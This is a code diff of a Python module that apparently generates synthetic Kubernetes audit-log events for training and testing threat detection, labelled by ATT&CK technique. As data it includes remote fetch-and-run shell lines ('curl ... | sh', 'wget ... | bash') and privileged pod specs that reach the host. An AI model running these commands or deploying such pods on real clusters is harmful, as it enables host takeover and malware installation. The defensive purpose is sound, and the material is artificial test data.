@@ -1,7 +1,4 @@
-"""Abuse of a Kubernetes cluster: pods that reach their host, shells, secrets, roles, tokens, hooks, deletions.
-
-Lines are as the API server's audit gives them: verb and resource name the call, `objectRef` says on what, `requestObject` what is asked for.
-"""
+"""Abuse of a Kubernetes cluster: pods that reach their host, shells in pods, workloads planted and deleted, accounts of pods astray."""
 
 from __future__ import annotations
 
@@ -11,54 +8,19 @@ from typing import Any
 
 from schema import CLOUD_WORK
 from tasks.families.story import GRAVE, Family
-from tasks.families.tellings import Caller, Row, Telling, call, chained, each, made
-
-USER = Caller("{user}", "{user}", "user")
-ANOTHER_USER = Caller("{other_user}", "{other_user}", "user")
-ANONYMOUS = Caller("", "system:anonymous", "user")
-POD = Caller("", "system:serviceaccount:{word9}:{word7}", "service")  # a pod's account
-OPERATOR = Caller("", "system:serviceaccount:{word9}:{word7}-controller", "service")
-CLUSTER = Caller("", "system:serviceaccount:kube-system:generic-garbage-collector", "service")  # an own service
-_GROUPS = {
-    "deployments": "apps",
-    "daemonsets": "apps",
-    "statefulsets": "apps",
-    "replicasets": "apps",
-    "jobs": "batch",
-    "cronjobs": "batch",
-    "clusterrolebindings": "rbac.authorization.k8s.io",
-    "rolebindings": "rbac.authorization.k8s.io",
-    "clusterroles": "rbac.authorization.k8s.io",
-    "roles": "rbac.authorization.k8s.io",
-    "mutatingwebhookconfigurations": "admissionregistration.k8s.io",
-    "validatingwebhookconfigurations": "admissionregistration.k8s.io",
-}
-
-
-def kube(
-    operation: str,
-    body: Mapping[str, Any] | None = None,
-    by: Caller = USER,
-    *,
-    namespace: str = "{word9}",
-    name: str = "{word8}-{number8}",
-    source: str = "",
-    **more: Any,
-) -> Row:
-    """Describe a granted call to a cluster: `create pods/exec`, on a named thing of a namespace; empty for a thing without one.
-
-    Args:
-        body: the request's object.
-        source: the caller's address; by default the host's for a controller, for others that or one outside.
-        more: fields of the line, or as of `call`.
-    """
-    resource, _, subresource = operation.partition(" ")[2].partition("/")
-    reference = {"resource": resource, "subresource": subresource, "namespace": namespace, "name": name}
-    place = {key: value for key, value in {**reference, "apiGroup": _GROUPS.get(resource)}.items() if value}
-    request = {"objectRef": place} | ({"requestObject": body} if body else {})
-    names = {"user": by.user, "user_uid": by.identity, "user_type": by.kind}
-    source = source or ("{ip}" if by in (OPERATOR, CLUSTER) else "{source}")
-    return call("kubernetes", operation, request, source, **{"agent": "{kube_agent}", **names, **more})
+from tasks.families.tellings import (
+    ANOTHER_USER,
+    CLUSTER,
+    POD,
+    USER,
+    Caller,
+    Row,
+    Telling,
+    chained,
+    each,
+    kube,
+    made,
+)
 
 
 # ---------------------------------------------------------------- pods
@@ -90,39 +52,39 @@ _KINDS = {
 }
 
 
-def workload(operation: str, pod: Mapping[str, Any], by: Caller = USER, **more: Any) -> Row:
+def _change(operation: str, pod: Mapping[str, Any], by: Caller = USER, **more: Any) -> Row:
     """Describe a call that makes or changes pods, or what makes them."""
     kind = _KINDS.get(operation.partition(" ")[2])
     return kube(operation, _workload(kind, pod) if kind else pod, by, **more)
 
 
-def secured(**context: Any) -> dict[str, Any]:
+def _secured(**context: Any) -> dict[str, Any]:
     """Write what a container may do on its host."""
     return {"securityContext": context}
 
 
-HOST_POD = _pod(secured(privileged=True), {"hostPID": True}, "/")
+_HOST_POD = _pod(_secured(privileged=True), {"hostPID": True}, "/")
 _HOST_PODS = (
-    HOST_POD,
-    _pod(secured(privileged=True), path="/var/run/docker.sock"),
-    _pod(secured(privileged=True, capabilities={"add": ["SYS_ADMIN"]})),
-    _pod(secured(privileged=True), {"hostNetwork": True, "hostIPC": True}),
+    _HOST_POD,
+    _pod(_secured(privileged=True), path="/var/run/docker.sock"),
+    _pod(_secured(privileged=True, capabilities={"add": ["SYS_ADMIN"]})),
+    _pod(_secured(privileged=True), {"hostNetwork": True, "hostIPC": True}),
 )
 _HALF_PODS = (
-    _pod(secured(privileged=True)),
+    _pod(_secured(privileged=True)),
     _pod(spec={"hostNetwork": True}),
     _pod(spec={"hostPID": True}),
-    _pod(secured(privileged=False), path="/etc"),
-    _pod(secured(privileged=False), path="/var/lib/kubelet"),
-    _pod(secured(capabilities={"add": ["SYS_PTRACE"]})),
-    _pod(secured(capabilities={"add": ["CAP_SYS_MODULE"]})),
+    _pod(_secured(privileged=False), path="/etc"),
+    _pod(_secured(privileged=False), path="/var/lib/kubelet"),
+    _pod(_secured(capabilities={"add": ["SYS_PTRACE"]})),
+    _pod(_secured(capabilities={"add": ["CAP_SYS_MODULE"]})),
 )
 _PLAIN_PODS = (
-    _pod(secured(privileged=False), {"hostPID": False}, "/data/{word4}"),
-    _pod(secured(privileged=False), path="/opt/{word4}"),
-    _pod(secured(privileged=False, capabilities={"add": ["NET_BIND_SERVICE"]})),
-    _pod(secured(privileged=False), {"hostNetwork": False, "hostIPC": False}),
-    _pod(secured(capabilities={"drop": ["ALL"]})),
+    _pod(_secured(privileged=False), {"hostPID": False}, "/data/{word4}"),
+    _pod(_secured(privileged=False), path="/opt/{word4}"),
+    _pod(_secured(privileged=False, capabilities={"add": ["NET_BIND_SERVICE"]})),
+    _pod(_secured(privileged=False), {"hostNetwork": False, "hostIPC": False}),
+    _pod(_secured(capabilities={"drop": ["ALL"]})),
 )
 _MAKERS = ("create deployments", "patch daemonsets", "create jobs", "update statefulsets", "create cronjobs")
 
@@ -135,52 +97,7 @@ def _shells(by: Caller = USER, calls: tuple[str, ...] = ("create pods/exec", "ge
     return [kube(calls[number % 2], {"command": line, "stdin": True}, by) for number, line in enumerate(_COMMANDS)]
 
 
-# ---------------------------------------------------------------- roles
-_BINDINGS = ("clusterrolebindings", "rolebindings")
-_PERSON_BOUND = {"kind": "User", "name": "{other_user}"}
-
-
-def binding(role: str, subject: Mapping[str, str]) -> dict[str, Any]:
-    """Write a binding of a role to a subject."""
-    return {"roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [subject], "kind": "ClusterRoleBinding"}
-
-
-def _bindings(role: str, subject: Mapping[str, str], verbs: tuple[str, ...] = ("create", "patch")) -> list[Row]:
-    return [
-        kube(f"{verb} {thing}", binding(role, subject), namespace="" if thing.startswith("cluster") else "{word9}")
-        for thing in _BINDINGS
-        for verb in verbs
-    ]
-
-
-_STRANGERS = ("system:anonymous", "system:unauthenticated", "system:authenticated")
-
-
-def _group(name: str) -> dict[str, str]:
-    return {"kind": "User" if name == "system:anonymous" else "Group", "name": name}
-
-
-def _role(verbs: list[str], resources: list[str]) -> list[Row]:
-    body = {"rules": [{"verbs": verbs, "resources": resources, "apiGroups": ["*"]}], "kind": "ClusterRole"}
-    return [kube(f"{verb} clusterroles", body, namespace="") for verb in ("create", "update")] + [
-        kube("create roles", body)
-    ]
-
-
-def _map(name: str, operation: str = "patch configmaps") -> Row:
-    users = {"data": {"mapUsers": "- userarn: arn:aws:iam::{account}:user/{other_user}"}}
-    return kube(operation, users, namespace="kube-system", name=name)
-
-
-# ---------------------------------------------------------------- hooks, plants, deletions
-_HOOKS = ("mutatingwebhookconfigurations", "validatingwebhookconfigurations")
-_HOOK = {"webhooks": [{"name": "{word6}.{domain}", "clientConfig": {"url": "https://{domain}/{word7}"}}]}
-
-
-def _hooks(verbs: tuple[str, ...], by: Caller = USER, source: str = "") -> list[Row]:
-    return [kube(f"{verb} {thing}", _HOOK, by, namespace="", source=source) for thing in _HOOKS for verb in verbs]
-
-
+# ---------------------------------------------------------------- plants, deletions
 _FETCHES = (
     "curl -fsSL https://{domain}/{word4}.sh | sh",
     "wget -qO- http://{address2}/{word4} | bash",
@@ -196,10 +113,10 @@ _RUNS = (
     "bash -c /opt/{word4}/run --port {number6}",
     "node -t 1 /srv/{word4}.js",
 )
-PLANTERS = ("create pods", "create deployments", "create cronjobs", "create daemonsets")
+_PLANTERS = ("create pods", "create deployments", "create cronjobs", "create daemonsets")
 
 
-def run_by(text: str) -> dict[str, Any]:
+def _run_by(text: str) -> dict[str, Any]:
     """Write a pod whose container runs a line of shell."""
     return _pod({"command": ["sh", "-c"], "args": [text]})
 
@@ -215,7 +132,7 @@ _DELETIONS = (
 )
 
 
-def deletions(by: Caller = USER, after: tuple[int, int] = (4, 50), things: tuple[str, ...] = _DELETIONS) -> Telling:
+def _deletions(by: Caller = USER, after: tuple[int, int] = (4, 50), things: tuple[str, ...] = _DELETIONS) -> Telling:
     """Write a run of deletions."""
     return [kube(operation, None, by, name=f"{{word{n}}}", after=after) for n, operation in enumerate(things, 10)]
 
@@ -229,9 +146,6 @@ def _sweep(last: str, by: Caller = USER) -> Telling:
 
 
 # ---------------------------------------------------------------- accounts of pods
-_ANONYMOUS_READS = ("list pods", "get configmaps", "list namespaces", "get pods/log", "list nodes")
-_ANONYMOUS_ACTS = ("create configmaps", "delete pods", "patch services", "create namespaces", "get secrets")
-_PUBLIC = ("get configmaps", "list configmaps", "get secrets", "patch configmaps", "list pods")
 _RIGHTS = {"spec": {"namespace": "{word9}"}, "kind": "SelfSubjectRulesReview"}
 _RIGHT = {"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}, "kind": "SelfSubjectAccessReview"}
 _APART = (10, 300)  # seconds between the steps of an intrusion
@@ -254,51 +168,6 @@ def _tries(by: Caller = POD, kinds: int = 6, code: str = "403") -> Telling:
     ]
 
 
-# ---------------------------------------------------------------- secrets and tokens
-def _secrets(operation: str, by: Caller = USER, source: str = "", *, spread: bool = True, **more: Any) -> Telling:
-    """Write seven reads of secrets: of as many namespaces (`list`) or names (`get`), or of the same over and over."""
-    return [
-        kube(
-            operation,
-            None,
-            by,
-            namespace=f"{{word{number if spread and operation.startswith('list') else 9}}}",
-            name=f"{{word{number if spread else 8}}}-token" if operation.startswith("get") else "",
-            source=source,
-            **{"after": (4, 60), **more},
-        )
-        for number in range(10, 17)
-    ]
-
-
-def _looks(last: str, by: Caller = USER, source: str = "", namespace: str = "") -> Telling:
-    looks = [kube(look, None, by, name="", source=source, after=(4, 60)) for look in _LISTS]
-    return [*looks, kube(last, None, by, namespace=namespace, name="", source=source)]
-
-
-_TOKEN = {"spec": {"audiences": ["https://{domain}"], "expirationSeconds": 31_536_000}, "kind": "TokenRequest"}
-_APPROVAL = {"status": {"conditions": [{"type": "Approved", "reason": "{word7}"}]}, "kind": "CertificateSigningRequest"}
-
-
-def _secret(kind: str) -> dict[str, Any]:
-    return {
-        "type": kind,
-        "metadata": {"annotations": {"kubernetes.io/service-account.name": "{word7}"}},
-        "kind": "Secret",
-    }
-
-
-def _tokens(by: Caller = USER, source: str = "") -> list[Row]:
-    return [
-        kube("create serviceaccounts/token", _TOKEN, by, source=source),
-        *(
-            kube(f"{verb} certificatesigningrequests/approval", _APPROVAL, by, namespace="", source=source)
-            for verb in ("update", "patch")
-        ),
-        kube("create secrets", _secret("kubernetes.io/service-account-token"), by, source=source),
-    ]
-
-
 _made = partial(made, work=CLOUD_WORK, platform="kubernetes")
 _chain = partial(chained, work=CLOUD_WORK, reaches=GRAVE, explanations=("ticket",), platform="kubernetes")
 
@@ -308,15 +177,15 @@ FAMILIES: tuple[Family, ...] = (
         "T1611",
         "privilege_escalation",
         ("kube-pod-on-host",),
-        confirmed=each(*(workload("create pods", pod) for pod in _HOST_PODS)),
+        confirmed=each(*(_change("create pods", pod) for pod in _HOST_PODS)),
         suspicious=each(
-            *(workload("create pods", pod) for pod in _HALF_PODS),
-            *(workload(operation, pod) for operation in _MAKERS for pod in (HOST_POD, _HALF_PODS[1], _HALF_PODS[3])),
+            *(_change("create pods", pod) for pod in _HALF_PODS),
+            *(_change(operation, pod) for operation in _MAKERS for pod in (_HOST_POD, _HALF_PODS[1], _HALF_PODS[3])),
         ),
         below=each(
-            *(workload("create pods", pod) for pod in _PLAIN_PODS),
-            *(workload("create pods", pod, CLUSTER) for pod in (HOST_POD, *_HALF_PODS[:2])),
-            *(workload(operation, pod) for operation in _MAKERS for pod in _PLAIN_PODS[::2]),
+            *(_change("create pods", pod) for pod in _PLAIN_PODS),
+            *(_change("create pods", pod, CLUSTER) for pod in (_HOST_POD, *_HALF_PODS[:2])),
+            *(_change(operation, pod) for operation in _MAKERS for pod in _PLAIN_PODS[::2]),
         ),
         reaches=GRAVE,
     ),
@@ -335,80 +204,26 @@ FAMILIES: tuple[Family, ...] = (
         ),
     ),
     _made(
-        "bound_administrator",
-        "T1098.006",
-        "persistence",
-        ("kube-admin-bound",),
-        confirmed=each(
-            *(row for name in _STRANGERS for role in ("view", "cluster-admin") for row in _bindings(role, _group(name)))
-        ),
-        suspicious=each(
-            *_bindings("cluster-admin", _PERSON_BOUND),
-            *_bindings("cluster-admin", {"kind": "ServiceAccount", "name": "{word7}", "namespace": "{word6}"}),
-            *_role(["*"], ["*"]),
-            *_role(["get", "escalate"], ["clusterroles"]),
-            *_role(["impersonate"], ["users"]),
-            *(_map("aws-auth", f"{verb} configmaps") for verb in ("create", "update", "patch")),
-        ),
-        below=each(
-            *_bindings("view", _PERSON_BOUND),
-            *_bindings("edit", {"kind": "ServiceAccount", "name": "{word7}", "namespace": "{word6}"}),
-            *_bindings("view", {"kind": "Group", "name": "{word7}-developers"}),
-            *_role(["get", "list"], ["*"]),
-            *_role(["*"], ["configmaps"]),
-            *(_map("{word7}-auth", f"{verb} configmaps") for verb in ("create", "update", "patch")),
-        ),
-        reaches=GRAVE,
-    ),
-    _made(
-        "nameless_caller",
-        "T1078.001",
-        "initial_access",
-        ("kube-anonymous",),
-        confirmed=each(*(kube(operation, None, ANONYMOUS) for operation in _ANONYMOUS_ACTS)),
-        suspicious=each(*(kube(operation, None, ANONYMOUS) for operation in _ANONYMOUS_READS)),
-        below=each(
-            *(kube(operation, None, ANONYMOUS, namespace="kube-public") for operation in _PUBLIC),
-            kube("create selfsubjectaccessreviews", _RIGHT, ANONYMOUS, namespace="", name=""),
-            *(kube(operation, None, CLUSTER) for operation in (*_ANONYMOUS_READS[:2], *_ANONYMOUS_ACTS[:3])),
-        ),
-        reaches=GRAVE,
-        names_account=False,
-        account="system:anonymous",
-    ),
-    _made(
-        "changed_hook",
-        "T1546",
-        "persistence",
-        ("kube-hook-changed",),
-        suspicious=each(*_hooks(("create", "update", "patch", "delete"))),
-        below=each(
-            *_hooks(("create", "update", "patch", "delete"), OPERATOR),
-            *_hooks(("get", "list", "watch")),
-            *_hooks(("create", "patch"), CLUSTER),
-        ),
-    ),
-    _made(
         "planted_workload",
         "T1053.007",
         "persistence",
         ("kube-workload-planted",),
         suspicious=each(
-            *(workload(operation, run_by(_RUNS[3]), namespace="kube-system") for operation in PLANTERS),
+            *(_change(operation, _run_by(_RUNS[3]), namespace="kube-system") for operation in _PLANTERS),
             *(
-                workload(operation, run_by(text))
+                _change(operation, _run_by(text))
                 for text in _FETCHES
                 for operation in ("create pods", "create cronjobs")
             ),
-            *(workload(operation, run_by(text)) for text in _FETCHES[:3] for operation in _MAKERS[:4]),
+            *(_change(operation, _run_by(text)) for text in _FETCHES[:3] for operation in _MAKERS[:4]),
         ),
         below=each(
-            *(workload(operation, run_by(_RUNS[3])) for operation in PLANTERS),
-            *(workload(operation, run_by(text)) for text in _RUNS for operation in ("create pods", "create cronjobs")),
-            *(workload(operation, run_by(text)) for text in _RUNS[:3] for operation in _MAKERS[:4]),
+            *(_change(operation, _run_by(_RUNS[3])) for operation in _PLANTERS),
+            *(_change(operation, _run_by(text)) for text in _RUNS for operation in ("create pods", "create cronjobs")),
+            *(_change(operation, _run_by(text)) for text in _RUNS[:3] for operation in _MAKERS[:4]),
             *(
-                workload(operation, run_by(text), CLUSTER, namespace="kube-system")
-                for operation in PLANTERS
+                _change(operation, _run_by(text), CLUSTER, namespace="kube-system")
+                for operation in _PLANTERS
                 for text in _FETCHES[:2]
             ),
         ),
@@ -431,12 +246,12 @@ FAMILIES: tuple[Family, ...] = (
         "T1485",
         "impact",
         ("kube-workloads-deleted",),
-        suspicious=[deletions(), deletions(things=_DELETIONS[::-1]), *(_sweep(last) for last in _SWEEPS)],
+        suspicious=[_deletions(), _deletions(things=_DELETIONS[::-1]), *(_sweep(last) for last in _SWEEPS)],
         below=[
-            deletions(CLUSTER),
-            deletions(after=(240, 330)),
-            deletions(things=("delete pods", "delete replicasets", "delete jobs", "delete configmaps") * 2),
-            [*deletions(things=_DELETIONS[:3]), *deletions(ANOTHER_USER, things=_DELETIONS[3:6])],
+            _deletions(CLUSTER),
+            _deletions(after=(240, 330)),
+            _deletions(things=("delete pods", "delete replicasets", "delete jobs", "delete configmaps") * 2),
+            [*_deletions(things=_DELETIONS[:3]), *_deletions(ANOTHER_USER, things=_DELETIONS[3:6])],
             *(_sweep(last) for last in ("deletecollection pods", "deletecollection jobs")),
         ],
     ),
@@ -473,41 +288,6 @@ FAMILIES: tuple[Family, ...] = (
         names_account=False,
         account=POD.identity,
     ),
-    # ------------------------------------------------------------ the held-out tactic
-    _made(
-        "cluster_secrets",
-        "T1552.007",
-        "credential_access",
-        ("kube-secrets-read",),
-        suspicious=[
-            _secrets("list secrets"),
-            _secrets("get secrets"),
-            _looks("list secrets"),
-            _looks("watch secrets"),
-        ],
-        below=[
-            _secrets("list secrets", spread=False),
-            _secrets("get secrets", spread=False),
-            _secrets("list secrets", OPERATOR),
-            _secrets("get secrets", OPERATOR),
-            _looks("list secrets", namespace="{word9}"),
-            _looks("watch secrets", OPERATOR),
-        ],
-    ),
-    _made(
-        "minted_token",
-        "T1528",
-        "credential_access",
-        ("kube-token-made",),
-        suspicious=each(*_tokens()),
-        below=each(
-            *_tokens(OPERATOR, "{ip}"),
-            *_tokens(CLUSTER),
-            kube("create secrets", _secret("Opaque")),
-            kube("create certificatesigningrequests", _APPROVAL, namespace=""),
-            kube("create serviceaccounts", _TOKEN),
-        ),
-    ),
     # ------------------------------------------------------------ several steps: for training, for choosing a model, for testing it
     _chain(  # ATT&CK T1609, T1485, T1070: a shell in a pod, workloads gone, and the events that tell of it
         "swept_cluster",
@@ -529,33 +309,6 @@ FAMILIES: tuple[Family, ...] = (
             ),
         ),
     ),
-    _chain(  # ATT&CK T1098.006, T1546, T1053.007: an administrator of the cluster, a hook before it, a job in it
-        "settled_cluster",
-        "T1546",
-        "persistence",
-        ("kube-hook-changed", "kube-admin-bound", "kube-workload-planted"),
-        (
-            (
-                [
-                    kube(
-                        "create clusterrolebindings",
-                        binding("cluster-admin", _PERSON_BOUND),
-                        namespace="",
-                        after=_APART,
-                    )
-                ],
-                [kube("create clusterrolebindings", binding("view", _PERSON_BOUND), namespace="", after=_APART)],
-            ),
-            (
-                [kube("create mutatingwebhookconfigurations", _HOOK, namespace="", after=_APART)],
-                [kube("get mutatingwebhookconfigurations", _HOOK, namespace="", after=_APART)],
-            ),
-            (
-                [workload("create cronjobs", run_by(_FETCHES[1]), after=_APART)],
-                [workload("create cronjobs", run_by(_RUNS[1]), after=_APART)],
-            ),
-        ),
-    ),
     _chain(  # ATT&CK G0139 (TeamTNT): a shell in a pod, a program for every node, the cluster's events gone
         "mining_cluster",
         "T1053.007",
@@ -567,8 +320,8 @@ FAMILIES: tuple[Family, ...] = (
                 [kube("get pods/log", {"command": _COMMANDS[0]}, after=_APART)],
             ),
             (
-                [workload("create daemonsets", run_by(_FETCHES[0]), after=_APART)],
-                [workload("create daemonsets", run_by(_RUNS[0]), after=_APART)],
+                [_change("create daemonsets", _run_by(_FETCHES[0]), after=_APART)],
+                [_change("create daemonsets", _run_by(_RUNS[0]), after=_APART)],
             ),
             ([kube("delete events", after=_APART)], [kube("get events", after=_APART)]),
         ),
@@ -605,16 +358,16 @@ FAMILIES: tuple[Family, ...] = (
                 ],
             ),
             (
-                [workload("create deployments", HOST_POD, POD, source="{ip}", after=_APART)],
-                [workload("create deployments", _PLAIN_PODS[0], POD, source="{ip}", after=_APART)],
+                [_change("create deployments", _HOST_POD, POD, source="{ip}", after=_APART)],
+                [_change("create deployments", _PLAIN_PODS[0], POD, source="{ip}", after=_APART)],
             ),
             (
                 [
-                    workload(
-                        "create cronjobs", run_by(_RUNS[3]), POD, source="{ip}", namespace="kube-system", after=_APART
+                    _change(
+                        "create cronjobs", _run_by(_RUNS[3]), POD, source="{ip}", namespace="kube-system", after=_APART
                     )
                 ],
-                [workload("create cronjobs", run_by(_RUNS[3]), POD, source="{ip}", after=_APART)],
+                [_change("create cronjobs", _run_by(_RUNS[3]), POD, source="{ip}", after=_APART)],
             ),
         ),
         names_account=False,
